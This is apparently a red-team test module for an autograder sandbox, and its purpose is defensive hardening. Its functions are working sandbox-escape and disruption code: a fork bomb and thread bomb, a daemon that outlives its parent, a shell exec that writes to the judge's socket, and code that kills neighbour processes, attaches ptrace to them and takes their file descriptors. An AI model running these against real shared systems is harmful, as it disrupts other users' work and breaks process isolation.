"""End, stop, multiply or outlive the process that holds the answer; reach for the processes beside it."""

from typing import Any

from autograder.redteam.attack import attack

MANY = 150  # children or threads: enough to be seen, too few to hurt a machine without a sandbox


@attack("nbgrader issue 427", quick=True)
def process_ended(target: dict, report: Any, x: Any) -> None:
    """Ends the process from inside the answer."""
    import os

    os._exit(0)


@attack("nbgrader issue 427")
def process_ended_in_the_cell(target: dict, report: Any) -> None:
    """Ends the process while the cells run."""
    import os

    os._exit(0)


@attack("own")
def crash_in_c(target: dict, report: Any, x: Any) -> None:
    """Reads address 0 through ctypes."""
    import ctypes

    ctypes.string_at(0)


@attack("own")
def killed_by_itself(target: dict, report: Any, x: Any) -> None:
    """Sends SIGKILL to itself."""
    import os

    os.kill(os.getpid(), 9)


@attack("own")
def stopped_by_itself(target: dict, report: Any, x: Any) -> None:
    """Stops itself with SIGSTOP, so that it neither answers nor ends."""
    import os

    os.kill(os.getpid(), 19)


@attack("cocalc issue 4879")
def endless_loop(target: dict, report: Any, x: Any) -> None:
    """Blocks every signal that can be blocked and never returns."""
    import signal

    signal.pthread_sigmask(signal.SIG_BLOCK, set(range(1, 65)) - {9, 19, 32, 33})
    while True:
        pass


@attack("own")
def endless_loop_in_c(target: dict, report: Any, x: Any) -> None:
    """Computes a power with ten billion digits while it holds the interpreter's lock."""
    return 10 ** (10**10)


@attack("own")
def deep_recursion(target: dict, report: Any, x: Any) -> Any:
    """Removes the recursion limit and recurses until the stack is full."""
    import sys

    sys.setrecursionlimit(1 << 30)

    def deeper(value: Any) -> Any:
        return deeper([value]) + 1

    return deeper(x)


@attack("measured against nbgrader 0.9.6", quick=True)
def fork_bomb(target: dict, report: Any, x: Any) -> None:
    """Forks 150 sleeping children."""
    import os
    import time

    made = 0
    for _ in range(150):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            time.sleep(60)
            os._exit(0)
        made += 1
    if made > 64:
        report(f"{made} children")


@attack("measured against nbgrader 0.9.6", quick=True)
def daemon(target: dict, report: Any, x: Any) -> None:
    """Forks twice, starts a session of its own, asks not to die with its parent, and lives on."""
    import ctypes
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        if os.fork() == 0:
            time.sleep(60)
        os._exit(0)


@attack("own", plain=False)
def processes_by_every_call(target: dict, report: Any, x: Any) -> None:
    """Makes a process by each call there is: fork, vfork, clone, clone3, posix_spawn, and torch's own helper."""
    import ctypes
    import os
    import signal
    import subprocess

    for name, arguments in (("fork", ()), ("clone", (signal.SIGCHLD, 0, 0, 0, 0))):
        result, _ = syscall(name, *arguments)
        if result == 0:
            ctypes.CDLL(None)._exit(0)
        if result > 0:
            report(f"{name} gave a child")
    empty = (ctypes.c_uint64 * 11)()
    empty[4] = signal.SIGCHLD
    result, _ = syscall("clone3", empty, ctypes.sizeof(empty))
    if result == 0:
        ctypes.CDLL(None)._exit(0)
    if result > 0:
        report("clone3 gave a child")
    if worked(lambda: os.posix_spawn("/bin/true", ["true"], {})):
        report("posix_spawn gave a child")
    if worked(lambda: subprocess.run(["/bin/true"], check=True)):
        report("subprocess ran a program")


@attack("own", plain=False)
def another_program(target: dict, report: Any) -> None:
    """Replaces itself by a shell that keeps the judge's socket, and by one from memory."""
    import os

    memory, _ = syscall("memfd_create", b"program", 0)
    if memory >= 0:
        with open("/bin/sh", "rb") as shell:
            os.write(memory, shell.read())
        syscall("execveat", memory, b"", None, None, 0x1000)
        worked(lambda: os.execve(memory, ["sh", "-c", "exit 0"], {}))
    os.execv("/bin/sh", ["sh", "-c", "echo BREACH: a shell >&3; sleep 60"])


@attack("own")
def thread_bomb(target: dict, report: Any, x: Any) -> None:
    """Starts threads that sleep until no more can be had."""
    import threading
    import time

    threading.stack_size(64 << 10)
    for _ in range(150):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


@attack("own")
def threads_left_running(target: dict, report: Any) -> None:
    """Leaves four threads behind that compute for ever, so that the next submission gets a slower machine."""
    import threading

    def burn() -> None:
        a = torch.randn(400, 400)
        while True:
            a = a @ a / a.norm()

    for _ in range(4):
        threading.Thread(target=burn, daemon=True).start()


@attack("own")
def hooks_at_the_end(target: dict, report: Any) -> None:
    """Registers everything that runs when a process ends, and writes a file from there."""
    import atexit
    import os
    import threading
    import weakref

    def leave() -> None:
        for folder in (target["course"], target["home"], target["temp"], "/tmp", "/dev/shm"):
            worked(lambda folder=folder: open(os.path.join(folder, target["mark"]), "w").close())

    atexit.register(leave)
    threading._register_atexit(leave)  # type: ignore[attr-defined]
    weakref.finalize(torch, leave)
    leave()


@attack("own")
def alarms(target: dict, report: Any) -> None:
    """Installs a handler for every signal and asks for an alarm every millisecond."""
    import signal

    for number in set(range(1, 32)) - {9, 19}:
        signal.signal(number, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)


@attack("own", plain=False, quick=True)
def signals_to_others(target: dict, report: Any) -> None:
    """Signals the judge and the zygote, and kills the neighbour."""
    import os

    for pid in target["judge_pids"]:
        if worked(lambda pid=pid: os.kill(pid, 0)):
            report(f"may signal process {pid}, which is not its own")
    for pid in target["neighbour_pids"]:
        if worked(lambda pid=pid: os.kill(pid, 9)):
            report(f"killed the neighbour, process {pid}")


@attack("own")
def debugger_attached(target: dict, report: Any) -> None:
    """Attaches to judge, zygote and neighbour as a debugger, and reads their memory by process_vm_readv."""
    import ctypes

    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_void_p * 2)(0x400000, 16)
    for pid in target["judge_pids"] + target["neighbour_pids"]:
        attached, _ = syscall("ptrace", 0x4206, pid, None, None)  # PTRACE_SEIZE: does not stop it
        if attached == 0:
            report(f"debugs process {pid}")
        read, problem = syscall("process_vm_readv", pid, local, 1, remote, 1, 0)
        if read > 0 or (read < 0 and problem == 14):  # EFAULT: allowed, only the address was wrong
            report(f"may read the memory of process {pid}")


@attack("own", plain=False)
def descriptors_taken(target: dict, report: Any) -> None:
    """Takes open descriptors out of the judge and the zygote through pidfd_getfd."""
    for pid in target["judge_pids"] + target["neighbour_pids"]:
        handle, _ = syscall("pidfd_open", pid, 0)
        for number in range(3, 12):
            taken, _ = syscall("pidfd_getfd", handle, number, 0) if handle >= 0 else (-1, 0)
            if taken >= 0:
                report(f"took descriptor {number} of process {pid}")


@attack("own", plain=False)
def limits_changed(target: dict, report: Any) -> None:
    """Raises its own limits, and changes the limits and priority of the judge and of a neighbour."""
    import os
    import resource

    for name in ("RLIMIT_DATA", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_CORE"):
        number = getattr(resource, name)
        hard = resource.getrlimit(number)[1]
        if hard == resource.RLIM_INFINITY:
            continue
        if worked(lambda number=number, hard=hard: resource.setrlimit(number, (hard + 1, hard + 1))):
            report(f"raised {name}")
    for pid in target["judge_pids"] + target["neighbour_pids"]:
        if worked(lambda pid=pid: resource.prlimit(pid, resource.RLIMIT_NOFILE)):
            report(f"reads the limits of process {pid}")
        if worked(lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid))):
            report(f"sets the priority of process {pid}")
